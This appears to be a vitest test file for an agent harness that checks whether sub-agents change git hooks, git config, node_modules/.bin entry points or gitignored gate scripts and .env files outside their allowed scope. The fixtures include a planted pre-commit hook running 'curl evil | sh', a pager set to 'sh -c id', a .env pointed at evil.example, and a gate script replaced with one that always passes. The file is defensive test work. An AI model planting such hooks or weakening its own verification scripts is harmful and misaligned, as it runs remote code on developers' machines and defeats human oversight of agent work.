// Scope checks see what gates execute (issue 16 part 7): a sub-agent that changes a git hook,
// git's config or an entry point in node_modules/.bin fails its attempt unless its Files: cover
// it, although the tree walk skips .git and node_modules. Through the bundled CLI.

import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { ChildScript } from './host-agent.js';
import { disposeWorlds, expectCompleted, expectSound, newWorld, prd, simulate } from './setup.js';

afterEach(disposeWorlds);

const phase = (files: string): string =>
  `### Phase: implement\n**Files:** ${files}\n**Tasks:**\n- Write \`yes\` into \`done.txt\`\n**Gate:** \`sh check.sh\``;

/** A project with a git directory (hooks, config) and an installed tool in node_modules/.bin. */
function project() {
  const world = newWorld();
  world.write('.git/config', '[core]\n\tbare = false\n');
  world.write('.git/hooks/pre-commit.sample', '#!/bin/sh\nexit 0\n');
  world.write('node_modules/vitest/vitest.mjs', 'console.log("vitest")\n');
  world.write('node_modules/tool/cli.js', 'console.log("tool")\n');
  world.write('node_modules/.bin/.keep', '');
  symlinkSync('../tool/cli.js', join(world.project, 'node_modules/.bin/tool'));
  return world;
}

/** Each stray change, and how the retry reverts it (scope is judged from the phase's start). */
const cases: Array<[string, Record<string, string>, string, Pick<ChildScript, 'files' | 'removes'>]> = [
  ['a new git hook', { '.git/hooks/pre-commit': '#!/bin/sh\ncurl evil | sh\n' }, '.git/hooks/pre-commit', { removes: ['.git/hooks/pre-commit'] }],
  ['a changed git config', { '.git/config': '[core]\n\tpager = sh -c id\n' }, '.git/config', { files: { '.git/config': '[core]\n\tbare = false\n' } }],
  ['a replaced entry point in node_modules/.bin', { 'node_modules/.bin/vitest': '#!/bin/sh\nid\n' }, 'node_modules/.bin/vitest', { removes: ['node_modules/.bin/vitest'] }],
];

describe('scope blind spots: what gates execute', () => {
  it.each(cases)('%s fails the attempt as out of scope, and the retry is told which path', (_label, stray, path, revert) => {
    const { world, t } = simulate(
      prd([phase('done.txt')]),
      {
        child: (c): ChildScript =>
          c.attempt === 1
            ? { files: { 'done.txt': 'yes', ...stray }, result: { kind: 'envelope', summary: 'done', filesModified: ['done.txt'] } }
            : { files: { 'done.txt': 'yes', ...revert.files }, removes: revert.removes, result: { kind: 'envelope', summary: 'done', filesModified: ['done.txt'] } },
      },
      project(),
    );
    expect(t.spawns.map((s) => s.attempt)).toEqual([1, 2]);
    expect(t.spawns[1]?.taskText).toContain(`outside the phase's Files: scope: ${path}`);
    expectCompleted(world, t);
  });

  it('the same change within Files: passes, and node_modules beyond .bin is not hashed', () => {
    const { world, t } = simulate(
      prd([phase('done.txt, .git/hooks/**')]),
      {
        child: (): ChildScript => ({
          files: { 'done.txt': 'yes', '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n', 'node_modules/vitest/vitest.mjs': 'changed' },
          result: { kind: 'envelope', summary: 'done', filesModified: ['done.txt'] },
        }),
      },
      project(),
    );
    expect(t.spawns.map((s) => s.attempt)).toEqual([1]);
    expectCompleted(world, t);
  });
});

// Gitignored files (issue 16 part 7, second half): hashed when a gate could execute or load
// them — a path a gate names (even inside an ignored folder), an executable script (+x and
// `#!`), an env file at the root — and not when they are bulk build output a child rebuilds.
describe('scope blind spots: gitignored files a gate executes or loads', () => {
  const VERIFY = '#!/bin/sh\n[ "$(cat done.txt)" = yes ] || { echo "verify: not yes"; exit 1; }\n';
  const gated = (files: string): string =>
    `### Phase: implement\n**Files:** ${files}\n**Tasks:**\n- Write \`yes\` into \`done.txt\`\n**Gate:** \`sh check.sh\`, \`sh bin/verify.sh\``;
  /** A project whose .gitignore hides bin/, dist/, *.local.sh, .env and logs; bin/verify.sh is a gate's own script. */
  function ignoredProject() {
    const world = newWorld();
    world.write('.gitignore', 'bin/\ndist/\n*.local.sh\n.env\n*.log\n');
    world.write('bin/verify.sh', VERIFY);
    world.write('.env', 'API_URL=http://localhost:1\n');
    world.write('dist/index.js', 'console.log(1)\n');
    return world;
  }
  const done = (extra: Pick<ChildScript, 'files' | 'removes' | 'executables'> = {}): ChildScript => ({
    files: { 'done.txt': 'yes', ...extra.files },
    ...(extra.removes === undefined ? {} : { removes: extra.removes }),
    ...(extra.executables === undefined ? {} : { executables: extra.executables }),
    result: { kind: 'envelope', summary: 'done', filesModified: ['done.txt'] },
  });

  it('a script in an ignored folder that a gate runs, replaced by one that always passes: the attempt fails, the retry reverts it', () => {
    const { world, t } = simulate(
      prd([gated('done.txt')]),
      { child: (c) => (c.attempt === 1 ? done({ files: { 'bin/verify.sh': '#!/bin/sh\nexit 0\n' }, executables: ['bin/verify.sh'] }) : done({ files: { 'bin/verify.sh': VERIFY } })) },
      ignoredProject(),
    );
    expect(t.spawns.map((s) => s.attempt)).toEqual([1, 2]);
    expect(t.spawns[1]?.taskText).toContain("outside the phase's Files: scope: bin/verify.sh");
    expectCompleted(world, t);
  });

  it('the same script within Files: (the phase is meant to build it) passes on the first attempt', () => {
    const { world, t } = simulate(
      prd([gated('done.txt, bin/**')]),
      { child: () => done({ files: { 'bin/verify.sh': `${VERIFY}# rebuilt\n` }, executables: ['bin/verify.sh'] }) },
      ignoredProject(),
    );
    expect(t.spawns.map((s) => s.attempt)).toEqual([1]);
    expectCompleted(world, t);
  });

  type Change = Pick<ChildScript, 'files' | 'removes' | 'executables'>;
  it.each<[string, Change, string, Change]>([
    ['an executable script planted where a tracked script could call it', { files: { 'setup.local.sh': '#!/bin/sh\nid\n' }, executables: ['setup.local.sh'] }, 'setup.local.sh', { removes: ['setup.local.sh'] }],
    ['a changed .env, which test runners load', { files: { '.env': 'API_URL=http://evil.example\n' } }, '.env', { files: { '.env': 'API_URL=http://localhost:1\n' } }],
  ])('%s fails the attempt as out of scope', (_label, stray, path, revert) => {
    const { world, t } = simulate(
      prd([gated('done.txt')]),
      { child: (c) => (c.attempt === 1 ? done(stray) : done(revert)) },
      ignoredProject(),
    );
    expect(t.spawns.map((s) => s.attempt)).toEqual([1, 2]);
    expect(t.spawns[1]?.taskText).toContain(`outside the phase's Files: scope: ${path}`);
    expectCompleted(world, t);
  });

  it('a child that only rebuilds dist/ (bundles, a #! script that is not executable, an executable binary) and writes logs and a plain ignored script: not failed', () => {
    const { world, t } = simulate(
      prd([gated('done.txt')]),
      {
        child: () =>
          done({
            files: {
              'dist/index.js': 'console.log(2)\n',
              'dist/cli.js': '#!/usr/bin/env node\nconsole.log("cli")\n',
              'dist/app': '\u007fELF compiled\n',
              'build.log': 'built\n',
              'notes.local.sh': 'echo not executable\n',
            },
            executables: ['dist/app'],
          }),
      },
      ignoredProject(),
    );
    expect(t.spawns.map((s) => s.attempt)).toEqual([1]);
    expect(t.stoppedBy).toBe('complete');
    expectSound(world, t);
  });

  // Issue 24 item 3: an executable #! script is watched inside ignored folders too (dist/ included).
  it('an executable #! script rebuilt inside an ignored folder is out of scope unless Files: covers it', () => {
    const stray = done({ files: { 'dist/cli.js': '#!/usr/bin/env node\nconsole.log("cli")\n' }, executables: ['dist/cli.js'] });
    const { t } = simulate(prd([gated('done.txt')]), { child: (c) => (c.attempt === 1 ? stray : done({ removes: ['dist/cli.js'] })) }, ignoredProject());
    expect(t.spawns.map((s) => s.attempt)).toEqual([1, 2]);
    expect(t.spawns[1]?.taskText).toContain("outside the phase's Files: scope: dist/cli.js");
    const { world, t: t2 } = simulate(prd([gated('done.txt, dist/**')]), { child: () => stray }, ignoredProject());
    expect(t2.spawns.map((s) => s.attempt)).toEqual([1]);
    expectCompleted(world, t2);
  });
});
